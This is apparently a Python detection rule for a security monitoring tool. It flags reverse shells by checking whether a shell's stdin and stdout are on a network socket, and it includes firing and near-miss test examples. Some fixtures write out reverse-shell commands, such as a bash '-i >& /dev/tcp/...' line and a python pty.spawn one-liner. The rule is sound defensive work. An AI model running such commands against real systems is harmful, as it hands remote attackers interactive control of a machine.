"""Execution:Runtime/ReverseShell: a shell whose stdin or stdout is a network socket.

Also any program started interactive (``-i``) whose stdin and stdout are one outbound TCP
connection (the same socket, from an ephemeral local port): a renamed copy of a shell, as the
GuardDuty tester runs (``cp /bin/bash <date>-reverseShell; ./<copy> -i >& /dev/tcp/...``), is a
shell by content, not by name. The commands run inside a reverse shell inherit its socket, but not
``-i`` (``id`` is not a second reverse shell). A service started by inetd or systemd on an accepted
connection has its stdio on a socket too, but on its listening port, not an ephemeral one.
"""

from __future__ import annotations

from typing import Any, ClassVar, Final

from vigil import sample as s
from vigil import severity
from vigil.detection import Context, Detection, Example, Meta
from vigil.events import Endpoint, ProcessActivity, Stdio
from vigil.vocab import INTERPRETER_NAMES, base_name, interactive_shell_flag, is_network_socket, is_shell

EPHEMERAL_PORTS: Final = range(32768, 65536)  # Linux's default ip_local_port_range and above


def _one_outbound_connection(a: Stdio | None, b: Stdio | None) -> bool:
    """fds ``a`` and ``b`` are the same TCP connection, made from this host (an ephemeral local port)."""
    if a is None or b is None or not (is_network_socket(a) and is_network_socket(b)):
        return False
    if a.protocol != "tcp" or b.protocol != "tcp" or a.remote is None or a.local is None:
        return False
    if a.path and b.path and a.path != b.path:  # socket:[inode] when the agent knows it
        return False
    return a.remote == b.remote and a.local == b.local and a.local.port in EPHEMERAL_PORTS


class ReverseShell(Detection):
    meta = Meta(
        type="Execution:Runtime/ReverseShell",
        severity=severity.HIGH,
        title="A reverse shell was started",
        description=(
            "A shell process was started with its standard input or output connected to a network socket, "
            "the way a reverse shell hands a remote actor an interactive session on the instance."
        ),
        mitre=("T1059.004", "T1571"),
        runbook=(
            "Identify the remote endpoint in runtimeDetails.process stdio (service.action) and the parent in the lineage: "
            "the parent is usually the exploited service. Isolate the instance, keep its volumes, then hunt for the initial access."
        ),
        false_positives=(
            "Remote-administration tools that deliberately attach a shell to a TCP socket (rare; suppress by executable path).",
        ),
        references=("https://attack.mitre.org/techniques/T1059/004/",),
        maturity="stable",
    )
    kinds = frozenset({"process_exec"})
    # no program prefilter: a renamed shell counts (see the module docstring)

    def match(self, event: ProcessActivity, ctx: Context) -> bool:
        p = event.process
        if not (is_network_socket(p.stdin) or is_network_socket(p.stdout)):
            return False
        # an interpreter only counts when both directions are on the socket (a pty.spawn one-liner)
        return (
            is_shell(p)
            or (
                base_name(p) in INTERPRETER_NAMES
                and is_network_socket(p.stdin)
                and is_network_socket(p.stdout)
            )
            or (interactive_shell_flag(p) and _one_outbound_connection(p.stdin, p.stdout))
        )

    def _peer(self, event: ProcessActivity) -> Any:
        p = event.process
        fd = p.stdin if is_network_socket(p.stdin) else p.stdout
        return fd

    def dedup_key(self, event: ProcessActivity) -> str:
        fd = self._peer(event)
        peer = fd.remote.ip if fd is not None and fd.remote is not None else ""
        return f"{event.process.file.path}|{peer}"

    def context(self, event: ProcessActivity, ctx: Context) -> dict[str, Any]:
        fd = self._peer(event)
        family = "AF_INET6" if fd is not None and fd.family == "inet6" else "AF_INET"
        proto = 17 if fd is not None and fd.protocol == "udp" else 6
        return {"addressFamily": family, "ianaProtocolNumber": proto}

    _OUT: ClassVar = Stdio(
        type="socket",
        family="inet",
        protocol="tcp",
        path="socket:[9901]",
        local=Endpoint(ip="127.0.0.1", port=45810),
        remote=Endpoint(ip="127.0.0.1", port=1337),
    )
    _ACCEPTED: ClassVar = Stdio(
        type="socket",
        family="inet",
        protocol="tcp",
        path="socket:[9902]",
        local=Endpoint(ip="10.0.0.12", port=873),
        remote=Endpoint(ip="198.51.100.20", port=51544),
    )
    fires: ClassVar = (
        Example(
            "the GuardDuty tester's renamed bash copy, -i on one outbound connection",
            (s.exec_(s.proc("/root/1764000000-reverseShell", "-i", stdin=_OUT, stdout=_OUT, stderr=_OUT,
                            parent=s.proc("/root/1764000000-reverseShell", "-c", "./1764000000-reverseShell -i >& /dev/tcp/127.0.0.1/1337 0>&1", pid=800, uid=0))),),
        ),
        Example(
            "bash -i with stdin/stdout on a TCP socket, spawned by a web server",
            (s.exec_(s.proc("/bin/bash", "-i", stdin=s.sock("198.51.100.7", 4444), stdout=s.sock("198.51.100.7", 4444),
                            parent=s.proc("/usr/sbin/nginx", pid=900, uid=33))),),
        ),
        Example(
            "sh with stdin on a socket (nc -e style)",
            (s.exec_(s.proc("/bin/sh", stdin=s.sock("203.0.113.9", 9001), stdout=s.pipe())),),
        ),
        Example(
            "python with both stdin and stdout on a socket",
            (s.exec_(s.proc("/usr/bin/python3", "-c", "import pty;pty.spawn('/bin/sh')",
                            stdin=s.sock("203.0.113.9", 443), stdout=s.sock("203.0.113.9", 443))),),
        ),
    )  # fmt: skip
    near_misses: ClassVar = (
        Example(
            "a command run inside a reverse shell (it inherits the socket, not -i)",
            (
                s.exec_(
                    s.proc(
                        "/usr/bin/id",
                        stdin=_OUT,
                        stdout=_OUT,
                        stderr=_OUT,
                        parent=s.proc("/usr/bin/bash", "-i", pid=900, uid=33),
                    )
                ),
            ),
        ),
        Example(
            "an inetd-style service with its stdio on an accepted connection (its listening port)",
            (
                s.exec_(
                    s.proc(
                        "/usr/bin/rsync",
                        "--daemon",
                        stdin=_ACCEPTED,
                        stdout=_ACCEPTED,
                        parent=s.proc("/usr/sbin/xinetd", pid=700, uid=0),
                    )
                ),
            ),
        ),
        Example(
            "interactive bash on a terminal (ssh login)", (s.exec_(s.proc("/bin/bash", "-i", parent=s.SSHD)),)
        ),
        Example(
            "bash whose stdout is a unix socket (systemd journal)",
            (s.exec_(s.proc("/bin/bash", "/opt/app/run.sh", stdout=s.sock("", 0, family="unix"))),),
        ),
        Example(
            "a python web app writing to a TCP socket on stdout but reading a pipe",
            (
                s.exec_(
                    s.proc("/usr/bin/python3", "app.py", stdin=s.pipe(), stdout=s.sock("198.51.100.20", 5140))
                ),
            ),
        ),
    )
